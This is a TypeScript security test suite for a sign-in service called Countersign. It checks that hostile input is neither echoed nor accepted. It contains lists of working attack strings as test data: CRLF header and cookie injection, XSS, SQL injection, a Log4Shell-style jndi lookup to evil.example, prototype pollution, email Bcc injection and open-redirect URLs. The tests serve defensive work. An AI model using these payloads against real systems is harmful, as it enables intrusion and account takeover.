import assert from "node:assert/strict";
import { mkdirSync, writeFileSync } from "node:fs";
import { request } from "node:http";
import { join } from "node:path";
import { after, test } from "node:test";
import { issueSetUpLink } from "#operations/signin/set-up-link.ts";
import { parseProxies } from "#wire/forwarded.ts";
import type { RawRequest, RawResponse } from "#wire/raw.ts";
import { handle, tooLarge } from "../../src/server/app.ts";
import { listen } from "../../src/server/http.ts";
import { openSite } from "../../src/server/site.ts";
import { checkAnswer } from "../hostile/answers.ts";
import { asUser, makePerson, PASSWORD } from "../operations/signin-world.ts";
import { freshFolder } from "../support/server.ts";
import { ask, COOKIES, holding, ORIGIN, openStage, type Stage, step, told } from "./stage.ts";

/** Found wherever it would come out again. */
const MARK = "hunter2-Secret";
const HEADER = `x-injected: ${MARK}`;

/** What breaks lines, headers, cookies, markup or names, wherever it is repeated unescaped. */
const TEXTS: readonly string[] = [
  `ana\r\nSet-Cookie: ${COOKIES.session}=${MARK}`,
  `ana\n${HEADER}`,
  `ana\r${HEADER}`,
  `ana\u2028${HEADER}`,
  `ana\u0085${HEADER}`,
  `ana\u0000${MARK}`,
  `ana\u001b[2J${MARK}`,
  `ana; Domain=evil.example; ${MARK}`,
  `<script>alert("${MARK}")</script>`,
  `"><img src=x onerror=${MARK}>`,
  `ana\u202e${MARK}`,
  `${"\ud83d\ude00"}${MARK}`,
  `\u0130ana${MARK}`,
  `ana' OR '1'='1' -- ${MARK}`,
  `\${jndi:ldap://evil.example/${MARK}}`,
  `{{constructor.constructor('${MARK}')()}}`,
  "__proto__",
  "constructor",
];

let shared: Promise<Stage> | undefined;
const open = (): Promise<Stage> => {
  shared ??= openStage();
  return shared;
};
after(async () => (await shared)?.[Symbol.asyncDispose]());

/** Nothing of what was sent comes back, in whatever form, and no header is there that we do not set. */
function isClean(answer: RawResponse, name: string): void {
  checkAnswer(answer);
  assert.doesNotMatch(
    `${JSON.stringify(answer.headers)} ${answer.cookies} ${answer.body}`,
    /hunter2|injected/,
    name,
  );
  assert.deepEqual(
    Object.keys(answer.headers).filter((header) => !OUR_HEADERS.has(header)),
    [],
    name,
  );
}

const OUR_HEADERS = new Set([
  "content-type",
  "date",
  "x-amzn-requestid",
  "x-amzn-errortype",
  "x-countersign-revision",
  "cache-control",
]);

test("no text that a visitor types comes back, into a header or anywhere else, and none signs anybody in", async () => {
  const { world, visitor } = await open();
  const account = await world.account();
  for (const text of TEXTS) {
    for (const [operation, input] of [
      ["SubmitPassword", { ...asUser(account.accountId, text), Password: MARK }],
      ["SubmitPassword", { ...asUser(text, "ana"), Password: MARK }],
      ["SubmitPassword", { ...asUser(account.accountId, "ana"), Password: text }],
      ["SubmitPassword", { Type: text, Password: MARK }],
      ["SubmitPassword", { Type: "root", Email: text, Password: MARK }],
      ["SubmitCode", { DeviceId: text, Code: "000000" }],
      ["SubmitCode", { DeviceId: MARK, Code: text }],
      ["ResyncDevice", { DeviceId: text, Code1: "000000", Code2: text }],
      ["ChangePassword", { OldPassword: MARK, NewPassword: text }],
      ["SetUp", { Token: text, Email: text, Alias: text, Password: MARK }],
      ["ProveFactor", { DeviceId: text, Code: "000000" }],
    ] as const) {
      const answer = await ask(visitor(), operation, input);
      assert.ok([400, 401, 403].includes(answer.status), `${operation}: ${answer.status}`);
      isClean(answer, `${operation} ${JSON.stringify(text)}`);
    }
  }
});

test("an address or an alias that breaks lines makes no account, and the set-up link is still good", async () => {
  await using stage = await openStage();
  const { world, visitor } = stage;
  const Token = (await issueSetUpLink(world.store, world.env.deps.random, world.now)) ?? assert.fail();
  const input = { Token, Email: "ada@example.com", Password: PASSWORD };
  for (const bad of [
    { Email: "ada@example.com\r\nBcc: all@example.com" },
    { Email: "ada@example.com\nX: y" },
    { Email: "ada@example.com\u0000" },
    { Email: "ada@example.com, all@example.com" },
    { Email: "ada@exam ple.com" },
    { Email: "<ada@example.com>" },
    { Alias: "acme\r\nx" },
    { Alias: "acme.evil/" },
    { Alias: "xn--acme-" },
    { Alias: "123456789012" },
  ]) {
    const answer = await ask(visitor(), "SetUp", { ...input, ...bad });
    assert.deepEqual([answer.status, answer.cookies ?? []], [400, []], JSON.stringify(bad));
  }
  assert.equal(await step(visitor(), "SetUp", input), "enrol");
});

/** As node hands headers on: bytes as latin1, in which a line cannot end. */
const AGENTS: readonly string[] = [
  `Mozilla/5.0 "quoted" \\ <b>${MARK}</b>`,
  `Mozilla/5.0 \u00ff\u0085\u00ad ${MARK}`,
  "\t",
  "",
  "a".repeat(5000),
];

test("a user agent stands in events and in one's sessions as text, cut off, and the record is still one record", async () => {
  const { world, visitor } = await open();
  const account = await world.account();
  await makePerson(world, account, "ana");
  for (const userAgent of AGENTS) {
    const page = visitor({ ip: "198.51.100.8", userAgent });
    isClean(await ask(page, "SubmitPassword", asUser(account.accountId, "ana", "wrong")), "refused");
    isClean(await ask(page, "SubmitPassword", asUser(account.accountId, "ana")), "taken");
    const kept = userAgent.slice(0, 1024);
    const { Sessions } = await page.client.countersign.ListSessions({});
    assert.equal(Sessions.find(({ Current }) => Current)?.UserAgent, kept);
    const events = await world.events(account.accountId);
    assert.ok(events.some(({ record }) => record.userAgent === kept || (record.userAgent ?? "") === kept));
  }
});

/** Behind a proxy that is trusted: what it was told by whoever is before it. */
const FORWARDED: Readonly<Record<string, string>> = {
  "198.51.100.9": "198.51.100.9",
  "evil.example, 198.51.100.9": "198.51.100.9",
  "198.51.100.9\u0085x-injected: 1": "192.0.2.7",
  "<script>": "192.0.2.7",
  "198.51.100.9;DROP TABLE events": "192.0.2.7",
  "127.0.0.1, 2001:db8::1%eth0": "2001:db8::1",
  "": "192.0.2.7",
};

test("a forwarded address that is none is not where anybody comes from", async () => {
  await using stage = await openStage();
  const { world, visitor } = stage;
  const proxies = parseProxies("192.0.2.7");
  assert.ok(proxies.ok);
  Object.assign(world.env, { proxies: proxies.value });
  const account = await world.account();
  await makePerson(world, account, "ana");
  for (const [header, address] of Object.entries(FORWARDED)) {
    const page = visitor();
    const answer = await ask(page, "SubmitPassword", asUser(account.accountId, "ana"), {
      "x-forwarded-for": header,
    });
    isClean(answer, header);
    const { Sessions } = await page.client.countersign.ListSessions({});
    assert.equal(Sessions.find(({ Current }) => Current)?.SourceIp, address, header);
  }
});

const GOOD = { Type: "user", Account: "1", UserName: "u", Password: MARK };
const text = JSON.stringify(GOOD);
const nested = (depth: number): string => `${"[".repeat(depth)}${"]".repeat(depth)}`;

/** Bodies that are no answer to a form of ours, and what they are told. */
const BODIES: readonly (readonly [name: string, body: string | Uint8Array, code: string])[] = [
  ["empty", "", "ValidationException"],
  ["a blank", " ", "SerializationException"],
  ["null", "null", "SerializationException"],
  ["a list", `[${text}]`, "SerializationException"],
  ["a text", JSON.stringify(text), "SerializationException"],
  ["two objects", `${text}${text}`, "SerializationException"],
  ["a comment", `/**/${text}`, "SerializationException"],
  ["a byte order mark", `\ufeff${text}`, "SerializationException"],
  ["a trailing comma", text.replace("}", ",}"), "SerializationException"],
  ["cut off", text.slice(0, -1), "SerializationException"],
  ["a member twice", text.replace("}", `,"Password":"other"}`), "SerializationException"],
  ["a member twice, escaped", text.replace("}", `,"P\\u0061ssword":"other"}`), "SerializationException"],
  ["a number for a text", text.replace('"u"', "7"), "SerializationException"],
  ["a boolean for a text", text.replace('"u"', "true"), "SerializationException"],
  ["a list for a text", text.replace('"u"', '["u"]'), "SerializationException"],
  ["an object for a text", text.replace('"u"', '{"toString":"u"}'), "SerializationException"],
  ["null for a password", text.replace(`"${MARK}"`, "null"), "ValidationException"],
  ["an empty password", text.replace(MARK, ""), "ValidationException"],
  ["a password of 129", text.replace(MARK, MARK.padEnd(129, "x")), "ValidationException"],
  ["half a character", text.replace(MARK, "\\ud83d"), "SerializationException"],
  ["a NUL", text.replace(MARK, "a\\u0000b"), "ValidationException"],
  ["nested deeply beside", text.replace("}", `,"Other":${nested(5000)}}`), "SerializationException"],
  ["a prototype", text.replace("}", `,"__proto__":{"Type":"root"}}`), "SignInFailed"],
  ["a prototype in place of members", '{"__proto__":{"Type":"user","Password":"p"}}', "ValidationException"],
  ["a constructor", text.replace("}", `,"constructor":{"prototype":{"Password":"p"}}}`), "SignInFailed"],
  ["an unknown member", text.replace("}", `,"Step":"session","Mfa":true,"Other":{"a":[1]}}`), "SignInFailed"],
  ["members in another case", text.replaceAll("Password", "password"), "ValidationException"],
  ["a megabyte of a member", text.replace("u", "u".repeat(1_000_000)), "ValidationException"],
  ["a megabyte of another", text.replace("}", `,"Other":"${"u".repeat(1_000_000)}"}`), "SignInFailed"],
  ["numbers beyond all", text.replace("}", `,"Other":1e999}`), "SignInFailed"],
  [
    "no UTF-8",
    Buffer.concat([Buffer.from('{"Type":"'), Buffer.from([0xff, 0xfe]), Buffer.from('"}')]),
    "SerializationException",
  ],
  [
    "an overlong slash",
    Buffer.concat([Buffer.from('{"Type":"'), Buffer.from([0xc0, 0xaf]), Buffer.from('"}')]),
    "SerializationException",
  ],
  ["UTF-16", Buffer.from(text, "utf16le"), "SerializationException"],
];

test("odd bodies are told so, or are passwords like any other, and nothing of them is repeated", async () => {
  const { app } = await open();
  for (const [name, body, code] of BODIES) {
    const peer = { address: "198.51.100.11", encrypted: false };
    const answer = await handle(app, visitOf({ body: Buffer.from(body), peer }));
    assert.equal(told(answer), code, name);
    isClean(answer, name);
    assert.deepEqual(answer.cookies ?? [], [], name);
  }
});

function visitOf(more: Partial<RawRequest>): RawRequest {
  const headers = {
    host: "localhost:8400",
    origin: ORIGIN,
    "x-countersign-console": "1",
    "content-type": "application/x-amz-json-1.1",
    "x-amz-target": "CountersignSignin_20261101.SubmitPassword",
  };
  return {
    method: "POST",
    target: "/console/api",
    rawHeaders: Object.entries(headers).flat(),
    body: new Uint8Array(),
    peer: { address: "192.0.2.7", encrypted: false },
    ...more,
  };
}

/** Where an open redirect would lead, in the places that one is looked for. */
const ELSEWHERE = [
  "https://evil.example/",
  "//evil.example/",
  "/\\evil.example",
  "javascript:alert(1)",
  "%2f%2fevil.example",
];
const PARAMETERS = [
  "next",
  "redirect",
  "redirect_uri",
  "return_to",
  "returnUrl",
  "continue",
  "url",
  "RelayState",
];

test("nothing sends a browser anywhere: no answer has a location, a refresh or a status that leads on", async () => {
  const { app, world } = await open();
  const folder = join(freshFolder("pages"), "dist");
  mkdirSync(folder, { recursive: true });
  writeFileSync(join(folder, "index.html"), "<!doctype html><title>Countersign</title>\n");
  const site = openSite(folder, world.env.publicUrl());
  const targets = ELSEWHERE.flatMap((there) => [
    there,
    `/${there}`,
    `/signin/${there}`,
    `/console/api/${there}`,
    `/signin/..;/${there}`,
    `/%0d%0aLocation:%20${there}`,
    ...PARAMETERS.map((name) => `/signin?${name}=${encodeURIComponent(there)}`),
    ...PARAMETERS.map((name) => `/console/api?${name}=${there}`),
  ]);
  for (const target of [
    ...targets,
    "/signin/",
    "/signin",
    "/setup",
    "//",
    "/index.html",
    "/.",
    "/a/..",
    "*",
  ]) {
    for (const method of ["GET", "POST"]) {
      const leading = [
        "referer",
        ELSEWHERE[0] ?? "",
        "x-forwarded-host",
        "evil.example",
        "x-original-url",
        target,
      ];
      const asked = visitOf({ method, target });
      const request = {
        ...asked,
        rawHeaders: [...(method === "GET" ? ["host", "localhost:8400"] : asked.rawHeaders), ...leading],
      };
      const { status, headers, cookies } = await handle({ ...app, site }, request);
      const name = `${method} ${target}`;
      assert.ok(status < 300 || status >= 400, `${name}: ${status}`);
      assert.deepEqual(
        Object.keys(headers).filter((header) => /^(?:location|refresh|link)$/i.test(header)),
        [],
        name,
      );
      assert.equal(cookies, undefined, name);
    }
  }
});

test("over a socket: heads too large and lines that break are refused before anything is read", async (t) => {
  const { app } = await open();
  const http = await listen({ host: "127.0.0.1", port: 0, handle: (raw) => handle(app, raw), tooLarge });
  t.after(() => http.close());
  const send = (headers: Readonly<Record<string, string>>) =>
    new Promise<number>((resolve, reject) => {
      const options = {
        host: "127.0.0.1",
        port: http.port,
        method: "POST",
        path: "/console/api",
        agent: false,
      };
      const asked = request({ ...options, headers: { ...headersOf(), ...headers } }, (answer) => {
        assert.equal(answer.headers["set-cookie"], undefined);
        resolve(answer.resume().statusCode ?? 0);
      });
      asked.once("error", reject).end(text);
    });
  assert.equal(await send({}), 403);
  for (const [name, value] of [
    ["user-agent", "a".repeat(100_000)],
    ["cookie", `${COOKIES.session}=${"a".repeat(100_000)}`],
    ["x-forwarded-for", "1, ".repeat(50_000)],
  ] as const) {
    assert.equal(await send({ [name]: value }), 431, name);
  }
  // below that, it is a cookie of nobody's
  assert.equal(await send({ cookie: `${"a=b; ".repeat(2000)}${COOKIES.signin}=${"a".repeat(256)}` }), 403);
});

const headersOf = (): Readonly<Record<string, string>> => {
  const { rawHeaders } = visitOf({});
  return Object.fromEntries(
    Array.from({ length: rawHeaders.length / 2 }, (_, at) => [
      rawHeaders[2 * at] ?? "",
      rawHeaders[2 * at + 1] ?? "",
    ]),
  );
};

test("a tampered cookie of one sign-in touches no other", async () => {
  const stage = await open();
  const account = await stage.world.account();
  await makePerson(stage.world, account, "ben");
  const page = stage.visitor({ ip: "198.51.100.10" });
  await page.client.signin.SubmitPassword(asUser(account.accountId, "ben"));
  const token = page.cookies.get(COOKIES.session) ?? assert.fail();
  // signing out with what is nearly his session ends nothing
  for (let at = 13; at < token.length; at += 6) {
    const off = `${token.slice(0, at)}${token[at] === "A" ? "B" : "A"}${token.slice(at + 1)}`;
    const other = holding(stage, [[COOKIES.session, off]]);
    assert.equal(await step(other, "SignOut"), "ok");
  }
  assert.equal(await step(page, "GetSignIn"), "session");
});
